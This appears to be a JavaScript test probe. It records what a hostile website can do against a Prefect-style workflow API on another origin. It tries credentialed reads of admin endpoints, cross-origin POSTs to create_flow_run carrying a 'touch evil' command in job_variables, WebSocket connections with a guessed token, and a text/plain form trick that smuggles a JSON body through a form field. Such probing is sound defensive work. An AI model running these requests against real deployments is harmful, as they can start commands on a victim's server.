// What a website tries on the API of another origin. Each attempt ends as "refused", "opaque" (sent, and its answer not to be
// read), "nothing" (a connection that told nothing), or as what was read.
async ({api, deployment}) => {
  const seen = {};
  const body = JSON.stringify({parameters: {plan: "evil"}, job_variables: {command: "touch evil"}});
  const run = `${api}/deployments/${deployment}/create_flow_run`;
  const attempt = async (name, address, options) => {
    try {
      const answer = await fetch(address, options);
      seen[name] = answer.type === "opaque" ? "opaque" : `${answer.status} ${await answer.text()}`;
    } catch (error) { seen[name] = "refused"; }
  };
  for (const credentials of ["omit", "include"]) {
    for (const path of ["/health", "/admin/version", "/admin/settings", "/csrf-token?client=evil", `/deployments/${deployment}`])
      await attempt(`read ${path} ${credentials}`, api + path, {credentials});
    for (const mode of ["cors", "no-cors"])
      for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json", ""])
        await attempt(`create ${type} ${mode} ${credentials}`, run, {
          method: "POST", mode, credentials, body: new Blob([body], {type}),
        });
  }
  for (const path of ["/events/in", "/events/out", "/task_runs/subscriptions/scheduled"])
    for (const protocol of ["prefect", undefined]) {
      const name = `socket ${path} ${protocol}`;
      seen[name] = await new Promise((resolve) => {
        const socket = protocol ? new WebSocket(api.replace("http", "ws") + path, protocol) : new WebSocket(api.replace("http", "ws") + path);
        socket.onopen = () => {
          socket.send(JSON.stringify({type: "auth", token: "nightloop:guess"}));
          socket.send(JSON.stringify({type: "filter", filter: {}}));
        };
        socket.onmessage = (message) => resolve(`message ${message.data}`);
        socket.onclose = () => resolve("nothing");
        setTimeout(() => resolve("still open"), 20000);
      });
    }
  seen.form = await new Promise((resolve) => {
    const frame = document.createElement("iframe"), form = document.createElement("form"), field = document.createElement("input");
    frame.name = "answer";
    field.name = body.slice(0, -1) + ', "tags": ["';
    field.value = '"]}';  // the "=" between the two stands inside a text: the body is JSON
    Object.assign(form, {action: run, method: "post", enctype: "text/plain", target: "answer"});
    form.append(field);
    document.body.append(frame, form);
    let loads = 0;
    frame.onload = () => {  // first the empty frame, then the answer
      try { if (frame.contentDocument.URL !== "about:blank") resolve(frame.contentDocument.body.innerText); }
      catch (error) { resolve("refused"); }
      if (++loads > 1 && frame.contentDocument === null) resolve("refused");
    };
    form.submit();
    setTimeout(() => resolve("no answer"), 20000);
  });
  return seen;
}
